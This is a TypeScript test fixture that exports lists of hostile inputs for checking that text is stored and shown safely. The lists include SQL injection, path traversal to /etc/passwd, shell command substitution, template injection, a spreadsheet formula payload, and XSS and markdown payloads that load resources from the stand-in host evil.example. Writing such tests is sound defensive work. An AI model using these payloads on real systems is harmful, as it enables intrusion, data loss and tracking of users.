/**
 * What people with bad intentions, bad luck or another alphabet type: after the "Big List of Naughty Strings" and the
 * OWASP sheet on getting around XSS filters. Each has to come back as it was typed and do nothing on the way.
 */
export const naughty: readonly string[] = [
	"undefined",
	"null",
	"NaN",
	"0x10",
	"1e309",
	"-0",
	"true",
	"__proto__",
	"constructor",
	"hasOwnProperty",
	"'; DROP TABLE users; --",
	"1' OR '1'='1",
	"\\'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --",
	"%00",
	"%s%n%d",
	"../../../../etc/passwd",
	"..%2f..%2fetc%2fpasswd",
	"$(touch /tmp/owned)",
	"`touch /tmp/owned`",
	`\${7*7} {{7*7}} <%= 7*7 %> #{7*7}`,
	"*/ ) } ] --> ]]> ?>",
	"e\u0301 é",
	"👩‍👩‍👧‍👦 🏳️‍🌈 🇪🇺",
	"田中さんにあげて下さい",
	"בְּרֵאשִׁית مرحبا",
	"Ⅷ ｆｕｌｌ ½ ﬁ",
	"Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
	"I İ ı ß ſ",
	"a\\u0041\\n\\\\",
	"\"quoted\" and 'quoted'",
	"=cmd|' /C calc'!A0",
];

/** Those that cannot be in a name, since a name is a single line of visible text. */
export const naughtyLines: readonly string[] = [
	"\u202eevil\u202c",
	"\ufeffbegins with a mark",
	"tab\tand\r\nlines\u2028\u2029",
	"bell\u0007 escape\u001b[31m del\u007f",
	"two\n\n\n\nparagraphs",
];

/** A host that must never be requested. */
export const EVIL = "evil.example";

/** Attempts to run a script, or to make a browser request a picture, wherever text is treated as HTML. */
export const scripts: readonly string[] = [
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example/x.js></ScRiPt>",
	"</textarea></title></style></script><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<img/src='https://evil.example/canary.png'/onload=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg><animate onbegin=alert(1) attributeName=x></svg>",
	"<iframe src=javascript:alert(1)></iframe>",
	"<object data=https://evil.example/></object>",
	"<base href=https://evil.example/>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<style>@import 'https://evil.example/x.css'</style>",
	"<form action=https://evil.example><button>Go</button></form>",
	"<a href=javascript:alert(1)>here</a>",
	"<details open ontoggle=alert(1)>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"![canary](https://evil.example/canary.png)",
	"![canary](//evil.example/canary.png 'x')",
	"[here](javascript:alert(1))",
	"[here](data:text/html,<script>alert(1)</script>)",
	"<https://evil.example/auto>",
	"https://evil.example/plain",
	"[ref]: https://evil.example/ref.png\n![ref]",
	"<!--><script>alert(1)</script>-->",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	'" autofocus onfocus=alert(1) x="',
	"javascript:alert(1)//",
	"{{constructor.constructor('alert(1)')()}}",
];
